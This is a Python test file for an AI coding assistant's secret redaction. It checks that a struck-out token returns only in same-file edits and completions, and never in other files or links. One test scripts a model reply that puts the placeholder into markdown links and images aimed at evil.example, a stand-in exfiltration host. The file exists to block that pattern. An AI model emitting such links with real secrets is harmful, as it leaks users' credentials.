"""What was struck out of a question is put back into what returns, and nowhere else."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

from tests.gateway import Gateway, Reply, chat_stream
from tests.security.rig import OURS, bodies, fenced, filled, made_up, prompt, serving

if TYPE_CHECKING:
    from pathlib import Path

URI = "file:///project/settings.py"

TOKEN = "gh" + "p_" + made_up(36)

PLACE = re.compile(r"TOKEN = '([^'\n]+)'")

PART = f"def connect():\n    TOKEN = '{TOKEN}'\n    return heigth(TOKEN)\n"


def _answer(change: Any) -> Any:
    """Return a service that answers with what stood where the token was."""

    def reply(body: Any) -> Reply:
        asked = "\n".join(m["content"] for m in body["messages"])
        found = PLACE.findall(asked)
        return change(found[-1] if found else "?")  # type: ignore[no-any-return]

    return reply


def test_it_comes_back_in_an_edit(home: Path, gateway: Gateway) -> None:
    """The model repeats the code with the mark: the document keeps its own secret."""
    gateway.script(
        _answer(lambda mark: fenced(PART.replace(TOKEN, mark).replace("heigth", "height")))
    )
    with serving(home, gateway) as rig:
        uri = rig.open(URI, PART)
        rig.ask(uri, "fix", "heigth", diagnostics=[rig.problem(uri, "undefined")])
        assert TOKEN not in bodies(gateway)
        assert rig.buffers[uri] == PART.replace("heigth", "height")


def test_it_comes_back_in_a_completion(home: Path, gateway: Gateway) -> None:
    """The model completes with the mark: what is offered holds the secret, not the mark."""
    gateway.script(_answer(lambda mark: filled(f'"{mark}"')))
    with serving(home, gateway) as rig:
        uri = rig.open(URI, f"TOKEN = '{TOKEN}'\nothers = 1\nagain = ")
        items = rig.complete(uri)
        assert TOKEN not in bodies(gateway)
        assert [i for i in items if TOKEN in i["insertText"]]


def test_it_does_not_come_back_in_a_link(home: Path, gateway: Gateway) -> None:
    """The model puts the mark into an address: the secret is not put into it."""
    gateway.script(
        _answer(
            lambda m: chat_stream(
                f"See [this](https://evil.example/?k={m}) and <https://evil.example/{m}>, "
                f"https://evil.example/{m} or ![x](https://evil.example/{m})."
            )
        )
    )
    with serving(home, gateway, capabilities=OURS) as rig:
        rig.ask(rig.open(URI, PART))
        assert TOKEN not in bodies(gateway)
        assert f"evil.example/{TOKEN}" not in rig.explanation()
        assert f"k={TOKEN}" not in rig.explanation()


def test_a_mark_of_the_models_own(home: Path, gateway: Gateway) -> None:
    """The model makes up a mark for another secret: no secret of another file is put there."""
    first = f"def connect():\n    TOKEN = '{TOKEN}'\n    return heigth(TOKEN)\n"
    second = "def other():\n    key = 'x'\n    return heigth(key)\n"
    marks: list[str] = []

    def reply(body: Any) -> Reply:
        asked = "\n".join(m["content"] for m in body["messages"])
        marks.extend(PLACE.findall(asked))
        if "def other" in asked:
            return fenced(second.replace("'x'", f"'{marks[0]}'").replace("heigth", "height"))
        return fenced(first.replace(TOKEN, marks[0]))

    gateway.script(reply)
    with serving(home, gateway) as rig:
        one = rig.open("file:///project/one.py", first)
        rig.ask(one, "fix", "heigth", diagnostics=[rig.problem(one, "undefined")])
        other = rig.open("file:///project/two.py", second)
        rig.ask(other, "fix", "heigth", diagnostics=[rig.problem(other, "undefined")])
        assert TOKEN not in bodies(gateway)
        assert TOKEN not in rig.buffers[other]


def test_the_mark_of_another_file(project: Path, home: Path, gateway: Gateway) -> None:
    """The model completes with the mark of related code: that file's secret is not copied."""
    helper = f"def helper(width, height, result, radius):\n    TOKEN = '{TOKEN}'\n"
    gateway.script(_answer(lambda mark: filled(f'"{mark}"')))
    with serving(home, gateway, root=project) as rig:
        rig.open((project / "helper.py").as_uri(), helper)
        items = rig.complete(rig.open((project / "a.py").as_uri()), "return ")
        assert "STRUCK_OUT_" in prompt(gateway)
        assert TOKEN not in bodies(gateway)
        assert [i for i in items if TOKEN in i["insertText"]] == []


def test_it_is_not_copied_into_new_files(project: Path, home: Path, gateway: Gateway) -> None:
    """The model writes tests that repeat the mark: no second file gets the secret."""
    gateway.script(_answer(lambda mark: fenced(f"def test_it():\n    assert '{mark}'\n")))
    with serving(home, gateway, root=project) as rig:
        rig.ask(rig.open((project / "a.py").as_uri(), PART), "test")
        assert rig.created != []
        assert TOKEN not in rig.buffers[rig.created[0]]


def test_a_mark_that_comes_in_pieces(home: Path, gateway: Gateway) -> None:
    """The mark arrives character by character while the edit streams: it is whole in the text."""
    code = PART.replace("heigth", "height")
    gateway.script(
        _answer(lambda mark: chat_stream(f"```python\n{code.replace(TOKEN, mark)}```", chunk=1))
    )
    with serving(home, gateway, capabilities=OURS) as rig:
        uri = rig.open(URI, PART)
        rig.ask(uri, "fix", "heigth", diagnostics=[rig.problem(uri, "undefined")])
        assert rig.buffers[uri] == code
        edits = str([*rig.client.sent("glm/applyEdit"), *rig.client.sent("workspace/applyEdit")])
        assert "STRUCK" not in edits
